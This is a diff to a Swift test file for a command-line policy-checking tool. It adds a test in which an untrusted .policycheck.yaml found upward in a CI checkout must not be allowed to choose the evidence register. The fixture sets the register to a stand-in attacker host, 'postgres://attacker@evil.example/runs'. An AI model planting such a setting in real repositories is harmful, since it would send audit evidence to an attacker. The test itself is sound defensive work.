@@ -163,14 +163,40 @@ import Testing
         let folder = try TemporaryFolder.make()
         try "register: audit/runs.sqlite\n".write(to: folder.appendingPathComponent(".policycheck.yaml"), atomically: true, encoding: .utf8)
         try FileManager.default.createDirectory(at: folder.appendingPathComponent("audit"), withIntermediateDirectories: true)
-        let audit = try Shell.run(Shell.policycheck, ["audit", "--from", "2025-01-01", "--to", "2025-01-02", "--out", "out"], in: folder)
+        let period = ["audit", "--from", "2025-01-01", "--to", "2025-01-02", "--out", "out"]
+        let audit = try Shell.run(Shell.policycheck, period + ["--config", ".policycheck.yaml"], in: folder)
         #expect(audit.status == 0, "\(audit.stderr)")
         #expect(FileManager.default.fileExists(atPath: folder.appendingPathComponent("audit/runs.sqlite").path))
-        let bad = try Shell.run(Shell.policycheck, ["audit", "--from", "2025-13-01", "--to", "2025-01-02", "--out", "out"], in: folder)
+        let optedIn = try Shell.run(Shell.policycheck, period + ["--allow-tree-config"], in: folder)
+        #expect(optedIn.status == 0, "\(optedIn.stderr)")
+        let bad = try Shell.run(Shell.policycheck, ["audit", "--from", "2025-13-01", "--to", "2025-01-02", "--out", "out", "--config", ".policycheck.yaml"], in: folder)
         #expect(bad.status == 2)
         #expect(bad.stderr == "--from: error: '2025-13-01' is not a date (YYYY-MM-DD)\n")
         let none = try Shell.run(Shell.policycheck, ["register", "push", "x"], in: try TemporaryFolder.make())
         #expect(none.status == 2)
         #expect(none.stderr.contains("no register"))
+    }
+
+    /// In CI the checkout is the pull request's: its `.policycheck.yaml` may not send the evidence to a register of its
+    /// choosing (an attacker's server, or a file in the checkout that is thrown away) nor feed `audit` a forged one.
+    @Test func aSettingsFileFoundUpwardMayNotChooseTheRegister() throws {
+        let folder = try TemporaryFolder.make()
+        try "failOn: high\nregister: postgres://attacker@evil.example/runs\n"
+            .write(to: folder.appendingPathComponent(".policycheck.yaml"), atomically: true, encoding: .utf8)
+        let factory = try BundleFactory()
+        let bundle = try factory.clone("one", runId: "one", repository: "acme/api", at: BundleFactory.epoch)
+        for arguments in [["register", "push", bundle.path], ["audit", "--from", "2025-01-01", "--to", "2025-01-02", "--out", "out"]] {
+            let result = try Shell.run(Shell.policycheck, arguments, in: folder)
+            #expect(result.status == 2)
+            #expect(result.stdout.isEmpty)
+            #expect(result.stderr == ".policycheck.yaml:2:1: error: 'register:' chooses where run evidence is stored and read, "
+                + "and this file was found upward from the working directory, not named with --config; give --register, "
+                + "name a trusted file with --config FILE, or pass --allow-tree-config\n")
+            #expect(!result.stderr.contains("attacker"))
+        }
+        #expect(!FileManager.default.fileExists(atPath: folder.appendingPathComponent("out").path))
+        let local = folder.appendingPathComponent("trusted.sqlite").path
+        let given = try Shell.run(Shell.policycheck, ["register", "push", bundle.path, "--register", local], in: folder)
+        #expect(given.status == 0, "\(given.stderr)")
     }
 }
